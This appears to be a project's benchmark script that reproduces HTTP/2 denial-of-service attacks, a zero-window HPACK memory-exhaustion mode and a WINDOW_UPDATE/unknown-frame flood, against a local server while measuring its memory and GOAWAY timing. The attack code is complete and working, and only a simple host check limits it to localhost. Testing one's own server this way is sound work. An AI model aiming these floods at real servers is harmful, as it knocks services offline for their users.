#!/usr/bin/env python3
"""Issue 14's HTTP/2 attacks against a running server, measuring its memory from /proc.

zero-window: CONNECTIONS h2c (or, with --tls, h2 over TLS) connections, each sending
SETTINGS_INITIAL_WINDOW_SIZE = 0 and STREAMS requests for --path with a 3,900-byte
:authority that HPACK indexes (with the :path it fills the 4 KiB table, so every stream after
the first costs 13 bytes). Nothing is ever read. Prints the server's VmRSS before, --settle
seconds in (and the growth per connection), then 1, 5, 10 and 30 seconds after the
connections are closed.

flood: one connection writing WINDOW_UPDATE on stream 0 (or --unknown: frames of type 0xfa)
as fast as the socket takes them, for --seconds; prints when the server said GOAWAY and
closed, if it did. Standard library only; raw frames, no HTTP/2 library deciding for us.

    python3 benches/h2_attack.py zero-window --port 8080 --pid "$(pidof mailtrack)"
    python3 benches/h2_attack.py flood --port 8080
"""

import argparse
import socket
import ssl
import struct
import sys
import threading
import time

INTERSTITIAL = "/CL0/https:%2F%2Fexample.com%2F/1/msg-1/AAAAAAAAAAAAAAAAAAAAAA=1"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix, first):
    """An HPACK integer with a prefix-bit prefix."""
    top = (1 << prefix) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    out.append(value)
    return bytes(out)


def indexed_literal(index, value):
    return integer(index, 6, 0x40) + integer(len(value), 7, 0) + value


def opening(window):
    settings = frame(4, 0, 0, struct.pack(">HI", 4, window))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + frame(4, 1, 0, b"")


def requests(path, authority, count):
    first = b"\x82\x86" + indexed_literal(4, path) + indexed_literal(1, authority)
    later = b"\x82\x86" + bytes([0x80 | 63, 0x80 | 62])
    return b"".join(frame(1, 0x5, 1 + 2 * n, first if n == 0 else later) for n in range(count))


def connect(args):
    sock = socket.create_connection((args.host, args.port))
    if not args.tls:
        return sock
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(sock, server_hostname="track.example.com")


def rss_kib(pid):
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS for %d" % pid)


def zero_window(args):
    authority = b"a" * (3900 - 12) + b".example.com"
    first_bytes = opening(0) + requests(args.path.encode(), authority, args.streams)
    before = rss_kib(args.pid)
    held = []
    for _ in range(args.connections):
        sock = connect(args)
        sock.sendall(first_bytes)
        held.append(sock)
    time.sleep(args.settle)
    during = rss_kib(args.pid)
    print("sent %d bytes over %d connections" % (len(first_bytes) * len(held), len(held)))
    print("RSS before %d KiB, during %d KiB: %d KiB a connection"
          % (before, during, (during - before) // len(held)))
    for sock in held:
        sock.close()
    waited = 0
    for mark in (1, 5, 10, 30):
        time.sleep(mark - waited)
        waited = mark
        print("RSS %2d s after closing: %d KiB" % (mark, rss_kib(args.pid)))


def flood(args):
    sock = connect(args)
    sock.sendall(opening(65535))
    one = frame(0xFA, 0, 0, b"") if args.unknown else frame(8, 0, 0, struct.pack(">I", 1))
    chunk = one * 4096
    started = time.time()
    seen = {"goaway": None, "closed": None}

    def read():
        """Reads frames until the server closes, noting when GOAWAY and the close came."""
        buffered = b""
        while True:
            try:
                data = sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                continue  # the writer's timeout, which the socket shares
            except OSError:
                data = b""
            if not data:
                seen["closed"] = time.time() - started
                return
            buffered += data
            while len(buffered) >= 9:
                length = int.from_bytes(buffered[:3], "big")
                if len(buffered) < 9 + length:
                    break
                if buffered[3] == 7 and seen["goaway"] is None:
                    seen["goaway"] = time.time() - started
                buffered = buffered[9 + length:]

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    sock.settimeout(0.2)
    written = 0
    while time.time() - started < args.seconds and seen["closed"] is None:
        try:
            written += sock.send(chunk)
        except (socket.timeout, ssl.SSLWantWriteError):
            pass  # the server reads no more: keep pushing until it closes
        except OSError:
            break
    reader.join(timeout=2)
    def when(key):
        return "after %.2f s" % seen[key] if seen[key] is not None else "never (in %g s)" % args.seconds
    print("wrote %d bytes; GOAWAY %s; closed %s" % (written, when("goaway"), when("closed")))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=["zero-window", "flood"])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true", help="h2 over TLS (ALPN), not h2c")
    parser.add_argument("--pid", type=int, help="the server's process id (zero-window)")
    parser.add_argument("--connections", type=int, default=300)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--path", default=INTERSTITIAL, help="the request-target of every stream")
    parser.add_argument("--settle", type=float, default=5.0)
    parser.add_argument("--unknown", action="store_true", help="flood unknown frames (0xfa)")
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args()
    if args.host not in ("127.0.0.1", "localhost", "::1"):
        sys.exit("h2_attack: attacks go to 127.0.0.1 only")
    if args.attack == "zero-window":
        if args.pid is None:
            sys.exit("h2_attack: zero-window needs --pid")
        zero_window(args)
    else:
        flood(args)


if __name__ == "__main__":
    main()
